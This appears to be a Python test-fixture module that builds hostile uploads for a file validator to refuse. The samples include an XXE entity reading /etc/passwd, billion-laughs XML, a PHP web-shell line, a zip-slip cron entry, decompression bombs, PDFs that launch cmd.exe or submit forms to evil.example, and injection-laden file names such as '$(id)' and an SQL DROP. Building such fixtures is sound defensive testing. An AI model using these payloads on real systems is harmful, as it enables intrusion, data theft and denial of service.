"""Hostile files, made here: what somebody might send in the place of a photo, a paper or a table. No byte comes from elsewhere.

`TAKEN` are odd but honest and must be taken (and remade); everything in `REFUSED` must be refused with a sentence.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image, PngImagePlugin

from linli.ground.files.tests import samples
from linli.ground.files.tests.samples import HTML, SVG, archive, encoded, gradient, pdf, photo

GPS_MARK, TEXT_MARK = b"Telephone 9", b"secret comment"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
XXE = b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + turn, b"&%c;" % (97 + turn) * 10) for turn in range(8)
) + b"]><x>&i;</x>"  # fmt: skip
PROGRAMS = {
    "shell": b"#!/bin/sh\nid\n",
    "java class": b"\xca\xfe\xba\xbe" + b"\0" * 60,
    "mach-o": b"\xcf\xfa\xed\xfe" + b"\0" * 60,
    "wasm": b"\0asm\x01\0\0\0",
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "lnk": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
    "php": b"<?php system($_GET[0]); ?>",
    "hta": b"<html><hta:application/></html>",
    "rtf": b"{\\rtf1\\ansi x}",
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "psd": b"8BPS\0\1" + b"\0" * 60,
    "ico": b"\0\0\1\0\1\0" + b"\0" * 60,
    "avif": b"\0\0\0\x1cftypavif" + b"\0" * 80,
    "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 60,
    "tar": b"a" + b"\0" * 256 + b"ustar" + b"\0" * 250,
    "seven zip": b"7z\xbc\xaf\x27\x1c" + b"\0" * 60,
    "rar": b"Rar!\x1a\x07\0" + b"\0" * 60,
    "gzip": gzip.compress(b"x" * 1000),
    "gzip bomb": gzip.compress(b"\0" * 20_000_000),
    "zlib bomb": zlib.compress(b"\0" * 20_000_000),
    "eicar": EICAR,
    "xxe": XXE,
    "billion laughs": LAUGHS,
    "svgz": gzip.compress(SVG),
    "json": b'{"__proto__": {"admin": true}}',
    "nul bytes": b"\0" * 5000,
    "utf-16 page": HTML.decode().encode("utf-16"),
    "multipart": b"--x\r\nContent-Disposition: form-data\r\n\r\nx\r\n--x--",
}


def zipped(*members: tuple[str, bytes], link: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if link:
                info.external_attr = 0o120777 << 16
            made.writestr(info, body)
    return out.getvalue()


def archives() -> Iterator[tuple[str, bytes]]:
    yield "zip slip", zipped(("../../etc/cron.d/x", b"* * * * * root id"))
    yield "zip with a link", zipped(("a", b"/etc/passwd"), link=True)
    yield "zip of a zip", zipped(("inner.zip", zipped(("inner.zip", archive()))))
    yield "zip bomb", zipped(("bomb", b"\0" * 50_000_000))
    yield "docx with a macro", zipped(("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", b"x"))
    yield (
        "xlsx with a link outside",
        zipped(("xl/externalLinks/externalLink1.xml", XXE), ("[Content_Types].xml", b"<Types/>")),
    )
    yield "apk", zipped(("AndroidManifest.xml", b"x"), ("classes.dex", b"dex\n035"))
    one = archive()
    yield "zip with a length that lies", one[:18] + b"\xff\xff\xff\x7f" + one[22:]


def polyglots() -> Iterator[tuple[str, bytes]]:
    """A picture of each kind that is something else at the same time."""
    pictures = {
        "jpeg": photo(),
        "png": encoded(gradient(32, 32), "PNG"),
        "gif": encoded(gradient(32, 32), "GIF"),
        "webp": encoded(gradient(32, 32), "WEBP"),
    }
    riders = {
        "zip": archive(),
        "page": HTML,
        "php": PROGRAMS["php"],
        "pdf": pdf(),
        "svg": SVG,
        "docx": dict(archives())["docx with a macro"],
    }
    for name, picture in pictures.items():
        for ridden, rider in riders.items():
            yield f"{name} and {ridden}", picture + rider
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    yield "png with a page in its text", encoded(gradient(32, 32), "PNG", pnginfo=info)
    yield "gif with a page in its comment", encoded(gradient(32, 32), "GIF", comment=HTML)
    yield "jpeg with a page in its exif", with_exif(HTML)


def with_exif(words: bytes) -> bytes:
    exif = Image.Exif()
    exif[0x010E] = words.decode()
    made: bytes = encoded(gradient(32, 32), exif=exif.tobytes())
    return made


def bombs() -> Iterator[tuple[str, bytes]]:
    for width, height in (
        (50_000, 50_000),
        (65_535, 65_535),
        (2**31 - 1, 2**31 - 1),
        (1, 2**31 - 1),
        (200_000, 200),
        (0, 0),
    ):
        yield f"png of {width} by {height}", samples.png_bomb(width, height)
    for width, height in ((65_535, 65_535), (65_535, 1_000)):
        yield f"gif of {width} by {height}", samples.gif_claiming(width, height)
    head = photo()
    at = head.index(b"\xff\xc0") + 5
    yield "jpeg of 65,500 by 65,500", head[:at] + struct.pack(">HH", 65_500, 65_500) + head[at + 4 :]
    jumbo = bytearray(encoded(gradient(32, 32), "WEBP", lossless=True))
    jumbo[21:25] = b"\xff\xff\xff\x0f"
    yield "webp of 16,384 by 16,384", bytes(jumbo)
    heic = bytearray(samples.HEIC)
    spot = heic.index(b"ispe") + 8
    heic[spot : spot + 8] = struct.pack(">II", 60_000, 60_000)
    yield "heic of 60,000 by 60,000", bytes(heic)


def cut() -> Iterator[tuple[str, bytes]]:
    """A picture of each kind, cut off at several places."""
    pictures = {
        "jpeg": photo(),
        "png": encoded(gradient(), "PNG"),
        "gif": encoded(gradient(), "GIF"),
        "webp": encoded(gradient(), "WEBP"),
        "heic": samples.HEIC,
    }
    for name, picture in pictures.items():
        for part in (13, len(picture) // 3, len(picture) * 2 // 3):
            yield f"{name} cut at {part}", picture[:part]


REFUSED: dict[str, bytes] = (
    {name: data for name, (data, _reason) in samples.REFUSED.items()}
    | PROGRAMS
    | dict(archives())
    | dict(polyglots())
    | dict(bombs())
    | dict(cut())
)
REFUSED["empty"] = b""

PAGES = [gradient(64, 64), gradient(32, 32), gradient(16, 16)]
TAKEN: dict[str, bytes] = {
    "a photo of a telephone": photo(),
    "a photo lying on its side": photo(orientation=6),
    "heic": samples.HEIC,
    "webp": encoded(gradient(), "WEBP"),
    "moving gif": encoded(PAGES[0], "GIF", save_all=True, append_images=PAGES[1:]),
    "moving png": encoded(PAGES[0], "PNG", save_all=True, append_images=PAGES[1:]),
    "moving webp": encoded(PAGES[0], "WEBP", save_all=True, append_images=[PAGES[0].rotate(90)]),
    "several in one jpeg": encoded(PAGES[0], "MPO", save_all=True, append_images=PAGES[1:]),
    "grey": encoded(gradient(32, 32, "L")),
    "colours of print": encoded(gradient(32, 32, "CMYK")),
    "sixteen bits": encoded(gradient(32, 32, "I;16"), "PNG"),
    "one pixel": encoded(gradient(1, 1), "PNG"),
    "very flat": encoded(gradient(5000, 2), "PNG"),
    "broken exif": encoded(gradient(32, 32), exif=b"Exif\0\0II*\0\xff\xff\xff\xff"),
}

PAPERS: dict[str, bytes] = {
    "nothing": b"",
    "a photo": photo(),
    "a page": HTML,
    "an archive": archive(),
    "eicar": EICAR,
    "cut off": pdf()[:30],
    "javascript": pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "javascript with an escaped name": pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"),
    "launch": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "a file inside": pdf(b"<< /Type /EmbeddedFile >>"),
    "a film": pdf(b"<< /Subtype /RichMedia >>"),
    "a form that sends": pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
    "a form in xfa": pdf(b"<< /XFA 3 0 R >>"),
    "import data": pdf(b"<< /S /ImportData /F (x) >>"),
    "packed programs": pdf(
        b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"
        + zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
        + b"\nendstream"
    ),
    "pdf and archive": pdf() + archive(),
    "pdf with a page": pdf(HTML),
    "docx": zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", XXE)),
    "late header": b"x" * 900 + pdf(),
    "ole": PROGRAMS["ole"],
    "program": b"MZ\x90\0" + b"\0" * 200,
}

NAMES = ["../../../etc/passwd", "..\\..\\x.jpg", "a\0b.jpg", "\u202egpj.exe", "con.jpg", "a" * 300 + ".jpg", "<img src=x onerror=alert(1)>.jpg", "x.jpg\r\nX-Evil: 1", ";rm -rf.jpg", "$(id).jpg", "照片 一.jpg", "", ".", "..", "/", "a/b/c.jpg", "%2e%2e%2f.jpg", "'; DROP TABLE x;--.jpg"]  # fmt: skip
